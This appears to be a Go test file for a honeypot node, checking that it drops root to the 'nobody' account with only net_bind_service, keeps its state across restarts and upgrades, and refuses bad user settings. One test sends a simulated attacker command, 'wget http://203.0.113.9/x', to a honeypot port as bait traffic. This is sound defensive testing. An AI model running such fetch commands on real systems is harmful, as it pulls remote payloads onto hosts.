package nodetest

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// nobody is the account that every system has.
const nobody = "65534"

// needRoot leaves out what an ordinary user can't begin; CI is root.
func needRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("only root can give up being root")
	}
}

// openDir is a directory that every user can look into.
func openDir(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "node")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// threads checks a line of /proc/PID/status for every thread of the node.
func (n *node) threads(key, want string) {
	n.t.Helper()
	files, err := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/status", n.cmd.Process.Pid))
	if err != nil || len(files) < 2 {
		n.t.Fatalf("%d threads, %v", len(files), err)
	}
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			continue // the thread has ended
		}
		found := false
		for line := range strings.Lines(string(b)) {
			if k, v, _ := strings.Cut(line, ":"); k == key {
				found = true
				if got := strings.Join(strings.Fields(v), " "); got != want {
					n.t.Errorf("%s: %s: %s, want %s", file, key, got, want)
				}
			}
		}
		if !found && key != "Groups" {
			n.t.Errorf("%s: no %s", file, key)
		}
	}
}

// unprivileged checks what is left to the node.
func (n *node) unprivileged(capabilities string) {
	n.t.Helper()
	ids := strings.TrimSpace(strings.Repeat(nobody+" ", 4))
	n.threads("Uid", ids)
	n.threads("Gid", ids)
	n.threads("Groups", "")
	for _, set := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"} {
		n.threads(set, capabilities)
	}
	n.threads("NoNewPrivs", "1")
}

// One that was started by root is nobody before it talks to strangers, keeps
// what it learns, opens low ports when told to, and comes back.
func TestUser(t *testing.T) {
	needRoot(t)
	c := startCore(t)
	w := c.Watch()
	dir := openDir(t)
	file, state := filepath.Join(dir, "f.conf"), filepath.Join(dir, "state")
	conf := func(text string) {
		text = fmt.Sprintf("core %s\nnode-id 42\nstate-dir %s\nuser nobody:%s\nspool-size 1M\n%s", c.Addr(), state, nobody, text)
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(state, 0o700); err != nil { // an earlier run was root's
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(state, "learned"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "forager")
	install(t, program, path)
	conf("pot tcp id=one listen=" + lowAddress(t) + "\n")
	n := start(t, path, "-c", file)
	until(t, w, `"pot_id":"one","pot_type":"tcp","status":"Running"`)
	n.unprivileged("0000000000000400")
	attack(t, n.address("one"), "wget http://203.0.113.9/x")
	until(t, w, "203.0.113.9")

	conf("pot tcp id=two listen=" + lowAddress(t) + "\n")
	n.signal(syscall.SIGHUP)
	until(t, w, `"pot_id":"two","pot_type":"tcp","status":"Running"`)
	if err := c.Command(42, fmt.Sprintf(`{"InstallPot":{"pot_id":"kept","honeypot_type":"ssh","config":{"listen":%q},"auto_start":true}}`, lowAddress(t))); err != nil {
		t.Fatal(err)
	}
	until(t, w, `"pot_id":"kept","pot_type":"ssh","status":"Running"`)

	for range 2 {
		install(t, upgrade, path)
		if err := c.Command(42, `"Restart"`); err != nil {
			t.Fatal(err)
		}
		until(t, w, `"NodeDrop"`)
		until(t, w, `"NodeRegistration":{"node_id":42,`)
		until(t, w, `"pot_id":"kept","pot_type":"ssh","status":"Running"`)
		if v := n.status("version"); v != upgradeVersion {
			t.Errorf("version %s runs", v)
		}
		n.unprivileged("0000000000000400")
	}
	for key, want := range map[string]string{
		"user": nobody + ":" + nobody, "groups": "none", "capabilities": "net_bind_service",
		"capabilities bound": "net_bind_service", "no new privileges": "on",
	} {
		if got := n.status(key); got != want {
			t.Errorf("status: %s: %s, want %s", key, got, want)
		}
	}
	if strings.Contains(n.said(), "error:") {
		t.Error("something was refused")
	}
	owned(t, state, 65534)

	// What can't come up again does not go down.
	if err := os.WriteFile(file, []byte("pot none\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := c.Command(42, `"Restart"`); err != nil {
		t.Fatal(err)
	}
	until(t, w, "no restart, the node goes on as it is")
	attack(t, n.address("two"), "still there")
	until(t, w, "still there")
	n.signal(syscall.SIGTERM)
	if code := n.ended(); code != 0 {
		t.Errorf("exit %d", code)
	}
}

// lastLow is the low port that is tried next: none is given out twice.
var lastLow = 1000

// lowAddress is one that only the privileged may bind, and that is free.
func lowAddress(t *testing.T) string {
	t.Helper()
	for ; lastLow > 900; lastLow-- {
		l, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", lastLow))
		if err == nil {
			l.Close()
			lastLow--
			return l.Addr().String()
		}
	}
	t.Fatal("no low port is free")
	return ""
}

// owned checks who owns everything in a directory.
func owned(t *testing.T, dir string, uid uint32) {
	t.Helper()
	files := 0
	err := filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		files++
		if got := info.Sys().(*syscall.Stat_t).Uid; got != uid {
			t.Errorf("%s belongs to %d", path, got)
		}
		return nil
	})
	if err != nil || files < 3 {
		t.Errorf("%d files, %v", files, err)
	}
}

// Who asks for a user and can't have it is told so before anything runs.
func TestUserRefused(t *testing.T) {
	for _, user := range []string{"root", "0", "nobody-of-this-name", "a b"} {
		_, stderr, code := forager(t, nil, "-user", user, "-state-dir", t.TempDir(), "-control", "", "-intake", "")
		if code != 1 || !strings.Contains(stderr, "-user") {
			t.Errorf("-user %q: exit %d, %s", user, code, stderr)
		}
	}
}

// A file that nobody but root can read does not stop the node, but is named.
func TestUserWithoutHisFiles(t *testing.T) {
	needRoot(t)
	c := startCore(t)
	dir := openDir(t)
	file := filepath.Join(dir, "f.conf")
	if err := os.WriteFile(file, []byte("node-id 42\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	open := filepath.Join(dir, "open")
	if err := os.Mkdir(open, 0o755); err != nil {
		t.Fatal(err)
	}
	n := start(t, program, "-c", file, "-core", c.Addr(), "-user", nobody, "-state-dir", open, "-pot", "tcp id=good listen=127.0.0.1:0")
	n.says("(-c)")
	n.says("(-state-dir)")
	told(t, c, "f.conf")
	attack(t, n.address("good"), "in spite of all")
	until(t, c.Watch(), "in spite of all")
	if err := c.Command(42, `"Restart"`); err != nil {
		t.Fatal(err)
	}
	told(t, c, "no restart, the node goes on as it is")
}
